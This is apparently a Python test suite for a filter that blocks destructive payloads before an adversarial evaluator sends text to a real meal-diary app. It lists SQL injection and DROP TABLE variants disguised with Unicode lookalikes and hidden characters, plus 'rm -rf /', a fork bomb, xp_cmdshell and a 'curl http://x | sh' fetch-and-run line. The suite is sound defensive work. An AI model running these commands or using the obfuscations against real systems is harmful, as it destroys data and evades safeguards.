"""What may not be sent to a real system, however it is disguised, and what is only a sentence."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from evalqueue.evaluators.adversarial.cases.payloads import refusal

DESTRUCTIVE = [
    "DROP TABLE users",
    "drop table users;--",
    "DrOp/**/TaBlE users",
    "DR/**/OP TABLE users",
    "/*!50000DROP TABLE users*/",
    "ＤＲＯＰ ＴＡＢＬＥ users",
    "DRОP TАBLE users",
    "D R O P  T A B L E users",
    "d.r.o.p t.a.b.l.e users",
    "DROP\nTABLE\nusers",
    "2 roti'); DELETE FROM meals; --",
    "delete from meals where 1=1",
    "DELETE FROM meals",
    "UPDATE users SET role='admin'",
    "INSERT INTO users VALUES (1)",
    "insert into users (a) values(1)",
    "ALTER TABLE users ADD x int",
    "GRANT ALL PRIVILEGES ON meals TO me",
    "truncate meals;",
    "TRUNCATE TABLE meals",
    "rm -rf /",
    "rm -r -f ~/x",
    "sudo rm /etc/passwd",
    "rm /etc/passwd",
    "curl http://x | sh",
    "DROP%20TABLE%20users",
    "DR\u200bOP TABLE users",
    "-- x\nDROP TABLE users",
    "EXEC xp_cmdshell 'dir'",
    "db.meals.drop()",
    "db.users.deleteMany({})",
    "FLUSHALL",
    ":(){ :|:& };:",
    "'DR'||'OP TABLE users'",
    "DROP TABLE MORIARTY_TEST_A, users",
    "DROP TABLE public.MORIARTY_TEST_A",
    "DROP -- hi\n TABLE users",
    "drop database prod",
    "delete meals from meals join users on 1=1",
    "DELETE FROM meals m WHERE m.id=1",
    "with x as (delete from users returning *) select 1",
    "&#68;ROP TABLE users",
    "create user eve with password 'x'",
    "`DELETE FROM meals`",
    "SELECT 1; DROP TABLE\tusers",
    "DROP TABLE IF EXISTS `users`",
]
SENTENCES = [
    "please update my lunch",
    "delete the rice from it",
    "drop the ghee",
    "Delete from my diary the rice I had",
    "delete rice from lunch",
    "update lunch, set it to 2 pm",
    "insert into my diary 2 rotis",
    "truncate it",
    "please grant me access to my data",
    "alter the table of my meals",
    "I had rum and coke",
    "rm",
    "I dropped the table spoon",
    "create a table of my meals",
    "select all from yesterday and show me",
    "drop it. table for two",
    "I ate 3 idlis at 8; delete dosa",
    "remove rice",
    "how do I drop weight?",
    "update: I ate 2 rotis",
    "set lunch = 2 roti",
    "execute plan: 3 meals",
    "delete from yesterday's lunch the rice",
    "merge my meals into one",
    "Can you replace into 2 portions",
    "kya maine aaj zyada carbs khaye?",
    "copy lunch from yesterday",
    "revoke my consent on my data please",
    "rename table",
    "curl my hair",
    "format: 2 roti",
    "create table of what I ate",
    "delete my last entry where I said rice",
    "DELETE THE RICE FROM LUNCH!!!",
    "я съел борщ и хлеб",
    "log 1 cup of dal (drop user error?)",
    "drop my user account",
    "insert my lunch into the diary",
    "update my weight set at 70 kg",
    "show me the table: drop the columns of fat",
]
ON_TEST_NAMES = [
    "DROP TABLE MORIARTY_TEST_MEALS",
    "delete from moriarty_test_x where id=1; --",
    "UPDATE MORIARTY_TEST_USERS SET name='x'",
    "rm -rf MORIARTY_TEST_dir",
    "DROP TABLE IF EXISTS `MORIARTY_TEST_A`, MORIARTY_TEST_B;",
    "INSERT INTO MORIARTY_TEST_T (a) VALUES (1)",
    "I ate 2 roti'; DROP TABLE MORIARTY_TEST_MEALS; --",
]


@pytest.mark.parametrize("text", DESTRUCTIVE)
@pytest.mark.parametrize("allows_destructive", [False, True])
def test_what_could_hit_something_is_never_sent(text: str, allows_destructive: bool) -> None:
    assert refusal(text, allows_destructive=allows_destructive)


@pytest.mark.parametrize("text", SENTENCES)
def test_a_sentence_is_no_payload(text: str) -> None:
    assert refusal(text, allows_destructive=False) is None


@pytest.mark.parametrize("text", ON_TEST_NAMES)
def test_what_names_only_test_identifiers_is_sent_where_the_app_allows_it(text: str) -> None:
    assert refusal(text, allows_destructive=True) is None
    assert "this app allows none" in (refusal(text, allows_destructive=False) or "")


def test_the_refusal_says_what_was_found_and_what_to_do() -> None:
    said = refusal("lunch'; DROP TABLE users; --", allows_destructive=True)

    assert said is not None
    assert "drop table users" in said
    assert "must begin with MORIARTY_TEST_" in said


letters = st.sampled_from("DROP")
gaps = st.sampled_from([" ", "\n", "\t", "/**/", "/* x */", "  ", "\u3000", "\u00a0", "%20"])
invisible = st.sampled_from(["", "\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u0301"])
words = st.text("abcdefghijklmnopqrstuvwxyz_", min_size=1, max_size=12)
LOOKALIKES = str.maketrans("aeopctkm", "аеорсткм")


@given(gap=gaps, hidden=invisible, name=words, upper=st.booleans(), cyrillic=st.booleans())
def test_no_disguise_makes_a_statement_a_sentence(
    gap: str, hidden: str, name: str, upper: bool, cyrillic: bool
) -> None:
    keywords = [hidden.join("drop"), hidden.join("table")]
    if cyrillic:
        keywords = [each.translate(LOOKALIKES) for each in keywords]
    elif upper:
        keywords = [each.upper() for each in keywords]

    assert refusal(gap.join([*keywords, f"t_{name}"]), allows_destructive=False)


@given(before=st.text(max_size=40), name=words, after=st.text(max_size=40))
def test_a_test_name_beside_a_real_one_hides_nothing(before: str, name: str, after: str) -> None:
    text = f"{before}; DROP TABLE MORIARTY_TEST_A; DROP TABLE t_{name} ;{after}"

    assert refusal(text, allows_destructive=True)


@given(
    verb=st.sampled_from(["delete", "update", "drop", "insert", "remove", "change", "alter"]),
    article=st.sampled_from(["the", "my", "that", "this", "some"]),
    food=st.sampled_from(["rice", "ghee", "lunch", "dal", "entry", "table of foods", "roti"]),
    rest=st.sampled_from(["", " from it", " from my lunch", " into my diary", " at 8 am."]),
)  # fmt: skip
def test_everyday_requests_are_sent(verb: str, article: str, food: str, rest: str) -> None:
    assert refusal(f"{verb} {article} {food}{rest}", allows_destructive=False) is None


@given(st.text(max_size=300))
def test_any_text_can_be_looked_at(text: str) -> None:
    said = refusal(text, allows_destructive=False)

    assert said is None or said.startswith("it holds ")


@pytest.mark.parametrize(
    "piece",
    ["drop ", "delete from ", "update a set ", "rm -r ", "a,", "select ", "curl ", "/*", "a b "],
)
def test_looking_takes_no_longer_for_text_made_to_be_slow(piece: str) -> None:
    text = (piece * 10_000)[:10_000]

    begun = time.process_time()
    refusal(text, allows_destructive=False)

    assert time.process_time() - begun < 2  # far above what it takes; quadratic would be above
